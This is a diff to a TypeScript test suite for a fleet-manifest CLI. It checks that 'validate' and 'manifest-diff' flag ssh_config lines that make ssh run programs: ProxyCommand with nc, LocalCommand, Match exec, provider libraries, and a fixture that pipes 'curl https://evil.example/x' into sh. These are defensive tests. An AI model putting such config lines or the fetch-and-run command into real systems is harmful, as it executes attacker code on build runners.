@@ -3,7 +3,7 @@
 // and a --repo that must not receive the token. Every case: a message naming the place, the
 // documented exit code, and no stack trace.
 import assert from "node:assert/strict";
-import { link, mkdir, readdir, readFile, rm, symlink, writeFile } from "node:fs/promises";
+import { access, link, mkdir, readdir, readFile, rm, symlink, writeFile } from "node:fs/promises";
 import path from "node:path";
 import { after, before, describe, it } from "node:test";
 import { execa } from "execa";
@@ -34,6 +34,12 @@ const committed = async (files: Record<string, string>) => {
   await git("commit", "-qm", "base");
   return repo;
 };
+
+const exists = (file: string) =>
+  access(file).then(
+    () => true,
+    () => false,
+  );
 
 const validate = (dir: string) => runCli(["validate", "--manifests", "."], { cwd: dir });
 
@@ -292,6 +298,92 @@ describe("manifest-diff and the pinned host keys", () => {
       ),
       result.stdout,
     );
+    assertNoStack(result);
+  });
+});
+
+describe("an ssh_config in the tree that runs a program on the runner", () => {
+  // Lines whose effect ssh itself decides: `ssh -G` says which option it set, and runs Match exec.
+  const LINES = [
+    "Host *\n  ProxyCommand nc %h %p",
+    "Host *\n  proxycommand=nc %h %p",
+    'Host *\n  "ProxyCommand" nc %h %p',
+    "Host *\n  PROXYCOMMAND = nc %h %p",
+    "Host *\n  KnownHostsCommand /bin/echo %H",
+    "Host *\n  LocalCommand id\n  PermitLocalCommand yes",
+    "Host *\n  PKCS11Provider /usr/lib/x.so",
+    "Host *\n  SecurityKeyProvider /usr/lib/x.so",
+    'Match exec "touch MARKER"',
+    'Match=exec "touch MARKER"',
+    'Match host * !exec "touch MARKER"',
+    "Host *\n  ProxyCommand none",
+    "Host *\n  PermitLocalCommand no",
+    "Host exec-01\n  HostName exec.example.net\n  User qm-audit",
+    "# ProxyCommand nc %h %p",
+  ];
+  const COMMAND_OPTION =
+    /^(proxycommand|localcommand|knownhostscommand|pkcs11provider) |^permitlocalcommand yes|^securitykeyprovider (?!internal$)/m;
+
+  it("validate refuses exactly the lines that make ssh run a program (asked of ssh -G), at file:line:col; --allow-exec accepts them", async () => {
+    for (const text of LINES) {
+      const dir = await tree({ "nodes/a.yaml": "{}\n" });
+      const marker = path.join(dir, "ran");
+      const config = `${text.replace("MARKER", marker)}\n`;
+      await writeFile(path.join(dir, "ssh_config"), config);
+      const shown = await execa("ssh", ["-G", "-F", path.join(dir, "ssh_config"), "a"], {
+        reject: false,
+      });
+      assert.equal(shown.exitCode, 0, shown.stderr);
+      const runs = COMMAND_OPTION.test(shown.stdout) || (await exists(marker));
+      await rm(marker, { force: true });
+      const result = await validate(dir);
+      assertNoStack(result);
+      assert.equal(result.exitCode, runs ? 2 : 0, `${text}: ${result.stderr}`);
+      if (runs) {
+        assert.match(
+          result.stderr,
+          /^ssh_config:\d+:\d+: .*(run|runs) a (program|command) on the auditing machine/m,
+        );
+        assert.match(result.stderr, /validate --allow-exec accepts it/);
+        const allowed = await runCli(["validate", "--manifests", ".", "--allow-exec"], {
+          cwd: dir,
+        });
+        assert.equal(allowed.exitCode, 0, allowed.stderr);
+      }
+      assert.equal(await exists(marker), false, "validate itself runs nothing");
+    }
+  });
+
+  it("validate refuses Include: lines it brings in are not in the tree", async () => {
+    const dir = await tree({
+      "nodes/a.yaml": "{}\n",
+      ssh_config: "Host *\n  User qm\nInclude ~/.ssh/extra\n",
+    });
+    const result = await validate(dir);
+    assert.equal(result.exitCode, 2, result.stderr);
+    assert.match(result.stderr, /^ssh_config:3:1: Include brings in ssh_config lines/m);
+  });
+
+  it("manifest-diff shows a change to ssh_config line by line, and says it runs a program", async () => {
+    const repo = await committed({
+      "fleet-manifests/nodes/web-01.yaml": "{}\n",
+      "fleet-manifests/ssh_config": "Host bastion\n  User qm-audit\n",
+    });
+    await writeFile(
+      path.join(repo, "fleet-manifests/ssh_config"),
+      'Host bastion\n  User qm-audit\nMatch exec "curl -s https://evil.example/x | sh"\n',
+    );
+    const result = await runCli(["manifest-diff", "--base", "HEAD"], { cwd: repo });
+    assert.equal(result.exitCode, 0, result.stderr);
+    const out = result.stdout;
+    assert.match(
+      out,
+      /The ssh_config the workflows pass to ssh changes, and runs a program on the runner\./,
+    );
+    assert.match(out, /### ssh_config \(read by ssh on the runner\)/);
+    assert.match(out, /after the change\*\*: `Match` \(line 3\)/);
+    assert.ok(out.includes('\n+Match exec "curl -s https://evil.example/x | sh"\n'), out);
+    assert.equal(out.indexOf("### "), out.indexOf("### ssh_config"), out);
     assertNoStack(result);
   });
 });
